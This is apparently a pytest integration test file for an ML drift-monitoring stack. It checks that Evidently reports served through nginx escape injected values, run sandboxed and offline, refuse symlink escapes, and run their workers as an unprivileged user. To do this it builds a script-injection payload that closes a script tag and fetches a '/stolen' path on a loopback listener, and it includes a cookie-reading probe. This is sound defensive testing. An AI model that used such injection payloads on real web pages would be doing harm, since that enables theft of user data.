"""A category value in traffic that closes Evidently's `<script>` block runs nothing in the report
the stack's nginx serves: the value reaches the HTML escaped, and the page is served sandboxed
(opaque origin, no network) so that even a script that ran could not reach anything. Opened in
headless Chromium; a loopback listener of the test's own counts any request the page makes."""

from __future__ import annotations

import functools
import http.server
import os
import pwd
import re
import shutil
import subprocess
import tempfile
import threading
from pathlib import Path

import httpx
import pandas as pd
import pytest

from tests.integration.test_stack import free_endpoints
from tests.support import copy_project, driftloop, edit_config

pytestmark = pytest.mark.integration

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"


class Listener:
    """An HTTP server on a free loopback port that records every request it gets."""

    def __init__(self, directory: Path | None = None):
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.SimpleHTTPRequestHandler):
            def do_GET(self):
                if directory is None or self.path.startswith("/stolen"):
                    hits.append(self.path)
                    self.send_response(204)
                    self.end_headers()
                    return
                super().do_GET()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        handler = functools.partial(Handler, directory=str(directory or "."))
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    """A project copy with its stack up (free ports), in a directory every user may traverse:
    pytest's own temp directories are 0700, through which nginx's unprivileged workers (the
    stack runs as root here) could not reach the reports."""
    from config.loader import load_project

    if not Path(CHROMIUM).exists():
        pytest.fail("chromium is not installed; run `make setup`")
    base = Path(tempfile.mkdtemp(prefix="driftloop-reports-"))
    try:
        base.chmod(0o755)
        (base / "proj").mkdir()
        root = copy_project(base / "proj")
        edit_config(root, free_endpoints)
        driftloop(root, "up", timeout=400)
        try:
            yield load_project(root / "config/driftloop.yaml")
        finally:
            driftloop(root, "down", check=False)
    finally:
        shutil.rmtree(base, ignore_errors=True)


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.stop()


def payload(listener: Listener, script: str = "document.title='pwned';") -> str:
    return f"</script><script>{script}fetch('{listener.url}/stolen')</script>"


def frames(project, value: str) -> tuple[pd.DataFrame, pd.DataFrame]:
    """The serving model's training rows and a window of traffic, one category of which is
    `value`, as the monitor hands them to its report."""
    reference = pd.read_csv(project.resolve("data/bikeshare/bikeshare_hourly_2011.csv"))
    reference = reference.query("mnth == 'Jan'").reset_index(drop=True)
    current = reference.sample(744, replace=True, random_state=1).reset_index(drop=True)
    current["temp"] = current["temp"] + 0.3
    current.loc[:200, "weathersit"] = value
    return reference, current


def chromium(url: str, profile: Path) -> str:
    """The DOM after the page's scripts ran (5 s of virtual time)."""
    done = subprocess.run(
        [
            CHROMIUM,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--no-first-run",
            f"--user-data-dir={profile}",
            "--virtual-time-budget=5000",
            "--dump-dom",
            url,
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


def titles(dom: str) -> list[str]:
    head = dom.split("<body", 1)[0]
    return re.findall(r"<title>(.*?)</title>", head, flags=re.S)


def visible_text(dom: str) -> str:
    body = re.sub(r"<(script|style)\b[^>]*>.*?</\1>", " ", dom, flags=re.S)
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", body))


def test_a_script_in_a_category_value_runs_nothing(stack, listener, tmp_path):
    from tasks.monitor.reports import write_report

    reference, current = frames(stack, payload(listener))
    (url,) = write_report.fn(stack, reference, current, "traffic-window")
    html = (stack.state_dir / "reports" / "traffic-window.html").read_text()
    assert "</script><script>document.title" not in html
    assert "&lt;/script&gt;&lt;script&gt;document.title" in html  # the value, still told apart

    dom = chromium(url, tmp_path / "profile")
    assert "pwned" not in titles(dom)
    assert listener.hits == []
    text = visible_text(dom)
    assert "Dataset Drift" in text and "Drifted Columns" in text  # the report still renders


def test_a_script_that_does_run_is_sandboxed_and_offline(stack, listener, tmp_path, monkeypatch):
    """The second line of defence on its own: a report written without the escaping (as an
    Evidently that another value slips through would write it) runs its injected script,
    served by nginx in an opaque origin without cookies and unable to send anything."""
    from tasks.monitor import report_html

    probe = (
        "document.title='pwned '+self.origin+' '+(function(){try{return document.cookie,"
        "'cookies'}catch(e){return 'no-cookies'}})();"
    )
    reference, current = frames(stack, payload(listener, probe))
    monkeypatch.setattr(report_html, "html_safe_frame", lambda frame: frame)
    reports = stack.state_dir / "reports"
    report_html.save_report(reference, current, stack, reports / "unescaped.html")
    (reports / "unescaped.html").chmod(0o644)

    # the same page from a plain server: the script runs and calls out (the probe works)
    plain = Listener(directory=reports)
    try:
        dom = chromium(f"{plain.url}/unescaped.html", tmp_path / "plain")
    finally:
        plain.stop()
    assert any(t.startswith("pwned ") for t in titles(dom))
    assert listener.hits, "the unescaped page made no request even without the policy"
    listener.hits.clear()

    dom = chromium(f"{stack.config.endpoints.reports}/unescaped.html", tmp_path / "served")
    assert "pwned null no-cookies" in titles(dom)
    assert listener.hits == []


def test_reports_are_served_as_files_only_with_a_restrictive_policy(stack, tmp_path):
    from tasks.stack.paths import reports_dir

    base = stack.config.endpoints.reports
    reports = reports_dir(stack)
    (reports / "page.html").write_text("<p>report</p>")
    (reports / "page.html").chmod(0o644)
    page = httpx.get(f"{base}/page.html")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    policy = page.headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts;") and "allow-same-origin" not in policy
    for directive in ("default-src 'none'", "connect-src 'none'", "frame-ancestors 'none'"):
        assert directive in policy
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["referrer-policy"] == "no-referrer"
    assert "server" not in page.headers or "/" not in page.headers["server"]  # no version

    listing = httpx.get(f"{base}/")
    assert listing.status_code in (403, 404) and "page.html" not in listing.text
    missing = httpx.get(f"{base}/nothing.html")
    assert missing.status_code == 404 and "sandbox" in missing.headers["content-security-policy"]
    assert httpx.post(f"{base}/page.html", content=b"x").status_code in (403, 405)

    outside = reports.parents[2] / "outside"  # beside the project, readable by anyone
    outside.mkdir(exist_ok=True)
    (outside / "secret.html").write_text("secret-outside-the-reports")
    os.chmod(outside / "secret.html", 0o644)
    (reports / "leak.html").symlink_to(outside / "secret.html")
    (reports / "linked").symlink_to(outside, target_is_directory=True)
    for path in ("leak.html", "linked/secret.html"):
        served = httpx.get(f"{base}/{path}")
        assert served.status_code in (403, 404), path
        assert "secret-outside" not in served.text


def test_nginx_workers_do_not_run_as_root(stack):
    from tasks.stack.supervisor import program_states

    if os.geteuid() != 0:
        pytest.skip("the stack runs as a normal user: nginx has no user to switch to")
    master = program_states(stack)["nginx"][1]
    workers = []
    for task in Path(f"/proc/{master}/task").iterdir():
        workers += [int(c) for c in (task / "children").read_text().split()]
    assert workers
    nobody = pwd.getpwnam("nobody").pw_uid
    for pid in workers:
        status = Path(f"/proc/{pid}/status").read_text()
        uids = re.search(r"^Uid:\s+(\d+)\s+(\d+)", status, flags=re.M).groups()
        assert {int(u) for u in uids} == {nobody}, f"nginx worker {pid} runs as {uids}"
